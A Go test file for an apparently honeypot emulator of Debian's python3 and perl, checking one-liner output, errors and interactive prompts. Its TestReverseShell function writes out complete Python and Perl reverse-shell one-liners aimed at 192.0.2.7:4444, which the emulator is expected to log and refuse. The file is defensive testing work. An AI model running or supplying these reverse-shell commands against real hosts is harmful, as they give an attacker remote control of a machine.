package script_test

import (
	"strings"
	"testing"

	"github.com/decnet/decnet/providers/decky/shell/program/programtest"
	"github.com/decnet/decnet/schema/event"
)

// What Debian 12's perl and python3 answer to one line.
func TestOneLiners(t *testing.T) {
	h := programtest.New(t, "root")
	for _, x := range []struct {
		line, stdout, stderr string
		status               int
	}{
		{`python3 -c 'print(1+1)'`, "2\n", "", 0},
		{`python3 -c 'print("a"*3, 7//2, -7//2, 7%3, 2**10, "x"+"y")'`, "aaa 3 -4 1 1024 xy\n", "", 0},
		{`python3 -c 'print(73*41, 7/2, 6/2)'`, "2993 3.5 3.0\n", "", 0},
		{`python3 -c "import os; os.system('echo hi')"`, "hi\n", "", 0},
		{`python3 -c 'import os,sys; print(os.getuid(), sys.platform)'`, "0 linux\n", "", 0},
		{`python3 -c 'print([1,"a",None,True])'`, "[1, 'a', None, True]\n", "", 0},
		{`python3 -c 'x=5; print(x*2); print("%s-%d" % ("a", x))'`, "10\na-5\n", "", 0},
		{`python3 -c 'print(len("abc"), chr(65), ord("a"), hex(255), int("12")+1)'`, "3 A 97 0xff 13\n", "", 0},
		{`python3 -c 'import base64; print(base64.b64decode("aGk=").decode())'`, "hi\n", "", 0},
		{`python3 -c 'print("a", end=""); print("b")'`, "ab\n", "", 0},
		{`python3 -c '__import__("os").system("id -u")'`, "0\n", "", 0},
		{`python3 -c 'print(x)'`, "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nNameError: name 'x' is not defined\n", 1},
		{`python3 -c 'print 1'`, "", "  File \"<string>\", line 1\n    print 1\n    ^^^^^^^\nSyntaxError: Missing parentheses in call to 'print'. Did you mean print(...)?\n", 1},
		{`python3 -c 'print(1'`, "", "  File \"<string>\", line 1\n    print(1\n         ^\nSyntaxError: '(' was never closed\n", 1},
		{`python3 -c '1/0'`, "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nZeroDivisionError: division by zero\n", 1},
		{`python3 -c 'import nosuchmodule'`, "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nModuleNotFoundError: No module named 'nosuchmodule'\n", 1},
		{`python3 -c 'open("/nofile")'`, "", "Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\nFileNotFoundError: [Errno 2] No such file or directory: '/nofile'\n", 1},
		{`python3 -c 'import sys; sys.exit(3)'`, "", "", 3},
		{`python3 -V`, "Python 3.11.2\n", "", 0},
		{`python3 --version`, "Python 3.11.2\n", "", 0},
		{`python3 -c`, "", "Argument expected for the -c option\nusage: /usr/bin/python3 [option] ... [-c cmd | -m mod | file | -] [arg] ...\nTry `python -h' for more information.\n", 2},
		{`python3 -m nosuchmodule`, "", "/usr/bin/python3: No module named nosuchmodule\n", 1},
		{`echo 'print("in")' | python3`, "in\n", "", 0},
		{`echo 'print(6*7)' > /tmp/t.py; python3 /tmp/t.py`, "42\n", "", 0},
		{`python3 -c 'import pty; pty.spawn(["/bin/echo","x"])'`, "x\n", "", 0},
		{`perl -e 'print "hi\n"'`, "hi\n", "", 0},
		{`perl -e 'print "A"x5 . "\n"'`, "AAAAA\n", "", 0},
		{`perl -e 'print 73*41, " ", 7/2, " ", 2**10, "\n"'`, "2993 3.5 1024\n", "", 0},
		{`perl -e '$x=3; my $y="a$x"; print "$y ${x}b\n";'`, "a3 3b\n", "", 0},
		{`perl -le 'print uc("abc"), length "hello"'`, "ABC5\n", "", 0},
		{`perl -e 'system("echo s"); print "done\n"'`, "s\ndone\n", "", 0},
		{`perl -e 'exec "echo e"'`, "e\n", "", 0},
		{"perl -e 'print `echo b`'", "b\n", "", 0},
		{`perl -e 'print "\x41\x42\n"'`, "AB\n", "", 0},
		{`printf 'a1\nb2\n' | perl -pe 's/(\d)/<$1>/'`, "a<1>\nb<2>\n", "", 0},
		{`printf 'a1\nb2\n' | perl -ne 'print if /b/'`, "b2\n", "", 0},
		{`perl -e 'die "no"'`, "", "no at -e line 1.\n", 255},
		{`perl -e 'exit 4'`, "", "", 4},
		{`perl -e 'print 1/0'`, "", "Illegal division by zero at -e line 1.\n", 255},
		{`perl -e`, "", "No code specified for -e.\n", 2},
		{`perl --zz`, "", "Unrecognized switch: -zz  (-h will show valid options).\n", 29},
		{`perl /nofile`, "", "Can't open perl script \"/nofile\": No such file or directory\n", 2},
		{`perl -MJSON::PP -e 'print "j\n"'`, "j\n", "", 0},
		{`perl -c -e 'print 1'`, "", "-e syntax OK\n", 0},
		{`echo 'old' > /tmp/i; perl -pi -e 's/old/new/' /tmp/i; cat /tmp/i`, "new\n", "", 0},
	} {
		stdout, stderr, status := h.Run(t, x.line, "")
		if stdout != x.stdout || stderr != x.stderr || status != x.status {
			t.Errorf("%s: %d %q %q", x.line, status, stdout, stderr)
		}
	}
}

// A connection that a script wants is put on record and refused.
func TestReverseShell(t *testing.T) {
	h := programtest.New(t, "root")
	for _, line := range []string{
		`python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("192.0.2.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
		`perl -e 'use Socket;$i="192.0.2.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};'`,
	} {
		h.Events = nil
		_, stderr, _ := h.Run(t, line, "")
		wanted := false
		for _, e := range h.Events {
			if s, ok := e.(*event.Scan); ok && strings.Contains(string(s.Data), "192.0.2.7:4444") {
				wanted = true
			}
		}
		if !wanted {
			t.Errorf("%s: no connection on record", line)
		}
		if strings.HasPrefix(line, "python") && !strings.HasSuffix(stderr, "ConnectionRefusedError: [Errno 111] Connection refused\n") {
			t.Errorf("%q", stderr)
		}
	}
}

// At a terminal python3 has a prompt.
func TestPrompt(t *testing.T) {
	h := programtest.New(t, "root")
	programtest.Type(t, h.Machine, "root", "python3; echo over", "", ">>> ", "1+1\r", "2\r\n>>> ", "'a'+'b'\r", "'ab'\r\n>>> ", "zz\r", "NameError: name 'zz' is not defined\r\n>>> ", "exit()\r", "over")
}

// Whatever a script is, its evaluators stay within their bounds.
func FuzzScript(f *testing.F) {
	f.Add(`print(1+1)`, false)
	f.Add(`import os; os.getuid(); x="a"*9**9; print(x[2:1])`, false)
	f.Add(`print "a" x 9**9, pack("H*","41"), qq(a$x)`, true)
	f.Add(`s/(a*)*b/$1$2/g; print if /x/`, true)
	h := programtest.New(f, "admin")
	f.Fuzz(func(t *testing.T, text string, perl bool) {
		line := "python3"
		if perl {
			line = "perl"
		}
		if strings.ContainsAny(text, "`") || strings.Contains(text, "sleep") || strings.Contains(text, "system") || strings.Contains(text, "exec") || strings.Contains(text, "open") || strings.Contains(text, "qx") { // the shell is fuzzed elsewhere
			return
		}
		h.Events = nil
		h.Run(t, line, text)
	})
}
